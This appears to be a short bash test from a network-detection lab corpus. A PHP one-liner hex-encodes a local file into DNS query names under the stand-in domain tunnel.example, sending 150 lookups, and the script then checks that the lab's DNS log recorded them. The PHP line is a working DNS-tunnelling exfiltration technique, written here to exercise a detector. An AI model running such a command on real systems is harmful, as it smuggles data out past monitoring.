#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=tune tool=php seconds=30 parts=dns
# PHP asks for the addresses of names that carry a file, 100 hexadecimal digits in two labels each, through the site's resolver.
# shellcheck disable=SC2016 # PHP has its own variables
timeout 28 php -r '$d = fopen("/usr/bin/openssl", "r"); for ($n = 0; $n < 150; $n++) { dns_get_record(implode(".", str_split(bin2hex(fread($d, 50)), 50)) . ".s$n.tunnel.example", DNS_A); usleep(120000); }'
[ "$(grep -c 'query\[A\].*tunnel\.example' "$LAB/dns.log")" -ge 150 ]
